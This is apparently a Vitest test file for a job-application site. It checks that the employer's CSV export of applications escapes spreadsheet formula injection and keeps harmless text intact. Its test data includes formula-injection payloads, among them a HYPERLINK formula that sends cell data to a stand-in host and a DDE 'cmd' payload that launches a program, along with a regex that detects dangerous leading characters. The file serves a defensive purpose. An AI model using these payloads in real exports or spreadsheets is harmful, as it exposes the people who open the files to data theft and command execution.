import { afterAll, beforeAll, expect, test } from 'vitest';
import { addApplications, addCandidates, addCv } from '#tests/support/applications.ts';
import { addJobs, EMPLOYER } from '#tests/support/jobs.ts';
import { request } from '#tests/support/request.ts';
import { signInAs } from '#tests/support/session.ts';
import { type Site, startSite } from '#tests/support/site.ts';

let site: Site;

beforeAll(async () => {
  site = await startSite();
});

afterAll(() => site?.stop());

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const BODIES = [
  '1+1',
  'HYPERLINK("http://evil.example?"&A1,"Open")',
  "cmd|'/C calc'!A0",
  'SUM(1;2)',
  ',"=1+1",',
  '\r\n=2+2',
];
const FORMULAS = BEGINNINGS.flatMap((beginning) => BODIES.map((body) => beginning + body));
/** A leading character that starts a formula in a spreadsheet, or white space before one. */
const DANGEROUS = /^[=+\-@\t\r＝＋－＠]/;

/** Parses CSV as spreadsheets do (RFC 4180); every cell is quoted. */
function parse(file: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, cell = '', end] of file.matchAll(/"((?:[^"]|"")*)"(,|\r\n|$)/g)) {
    rows.at(-1)?.push(cell.replaceAll('""', '"'));
    if (end !== ',') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

test('no cell of an export begins like a formula, and nothing that was written is lost', async () => {
  const people = await addCandidates(site.database.database, ...FORMULAS.map((_, at) => `Candidate ${at}`));
  const [job = ''] = await addJobs(site.database.database, {});
  const [first = ''] = people;
  const cv_id = await addCv(site.database.database, first, '-2_3.pdf');
  await addApplications(
    site.database.database,
    ...FORMULAS.map((formula, at) => ({
      job_id: job,
      candidate_id: people[at] ?? '',
      full_name: formula,
      email: formula,
      location: formula,
      phone: formula.slice(0, 20),
      skills: [formula, 'Sums'],
      cover_note: formula,
      ...(at === 0 && { cv_id }),
    })),
  );
  const answer = await request(site.url, `/employer/jobs/${job}/applications.csv`, {
    headers: { Cookie: await signInAs(site, EMPLOYER) },
  });
  expect(answer.status).toBe(200);
  const file = answer.body.toString();
  expect(file.startsWith('\ufeff"Sent"')).toBe(true);
  const [header, ...rows] = parse(file.slice(1));
  expect(header).toHaveLength(11);
  expect(rows).toHaveLength(FORMULAS.length);
  expect(rows.flat().filter((cell) => DANGEROUS.test(cell))).toEqual([]);
  rows.forEach((cells, at) => {
    const formula = FORMULAS[at] ?? '';
    const [, , name, email, phone, location, skills, note] = cells;
    expect([name, email, location, note]).toEqual(Array.from({ length: 4 }, () => `'${formula}`));
    expect(phone).toBe(`'${formula.slice(0, 20)}`);
    expect(skills).toBe(`'${formula}, Sums`);
  });
  expect(rows[0]?.[9]).toBe("'-2_3.pdf");
});

test('what is harmless stays as it was written', async () => {
  const [wren = ''] = await addCandidates(site.database.database, 'Wren');
  const [job = ''] = await addJobs(site.database.database, {});
  const cover_note = 'I said "yes", twice;\nthen = went home.';
  await addApplications(site.database.database, {
    job_id: job,
    candidate_id: wren,
    full_name: "Siân O'Brien",
    cover_note,
  });
  const { body } = await request(site.url, `/employer/jobs/${job}/applications.csv`, {
    headers: { Cookie: await signInAs(site, EMPLOYER) },
  });
  const [, cells] = parse(body.toString().slice(1));
  expect(cells?.slice(1)).toEqual([
    'Sent',
    "Siân O'Brien",
    'wren@mail.example',
    '0113 496 0100',
    '',
    'Picking, Packing',
    cover_note,
    '',
    '',
    '',
  ]);
});
